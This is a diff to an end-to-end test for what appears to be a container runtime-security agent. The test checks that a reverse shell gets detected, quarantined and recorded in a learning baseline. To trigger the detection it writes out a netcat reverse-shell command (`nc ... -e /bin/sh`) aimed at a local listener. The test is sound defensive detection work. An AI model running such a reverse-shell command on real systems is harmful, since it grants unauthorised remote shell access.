@@ -269,11 +269,15 @@ describe(
       const listener = await Listener.on(gateway);
       fixture!.exec(ctr, ['nc', gateway, String(listener.port), '-e', '/bin/sh'], { detach: true });
       await waitFor(async () => listener.socket, 'the reverse shell to connect');
-      assert.equal(
-        await listener.answers(`pwned-${run}`, 10_000),
-        true,
-        'the shell did not run over the socket',
-      );
+      // Under --enforce the quarantine (~150 ms after the connection) may cut the socket before a
+      // round trip: there the one reverse_shell detection shows the shell ran on it, and monitor
+      // mode shows that it answers.
+      if (!enforce)
+        assert.equal(
+          await listener.answers(`pwned-${run}`, 10_000),
+          true,
+          'the shell did not run over the socket',
+        );
       const action = await waitFor(
         async () =>
           (await up.actions(ctr.name)).find(
@@ -394,15 +398,14 @@ describe(
           new RegExp(`local/${ctr.name}  reverse_shell: .*  policy/runtime-response  Quarantine  dry-run`),
         );
         // --baseline-learning 10m reached the agent: what the container ran is being learned
-        // (pushed to the scanner within the sync's 2 s debounce).
-        const learning = await waitFor(async () => {
-          const found = (await up.baselines()).filter((b) => b.state === 'learning' && b.eventsLearned > 0);
-          return found.length > 0 ? found : undefined;
-        }, 'a learning baseline');
-        assert.ok(
-          learning.some((b) => b.executables.some((e) => /\/(sh|nc)$/.test(e))),
-          JSON.stringify(learning),
+        // (pushed to the scanner within the sync's 2 s debounce), the shell's connection included.
+        const destination = `${gateway}:${listener.port}`;
+        const learned = await waitFor(
+          async () =>
+            (await up.baselines()).find((b) => b.state === 'learning' && b.outbound.includes(destination)),
+          `a learning baseline with ${destination}`,
         );
+        assert.ok(learned.executables.includes('/bin/busybox'), JSON.stringify(learned));
       } finally {
         listener.close();
         await up.stop();
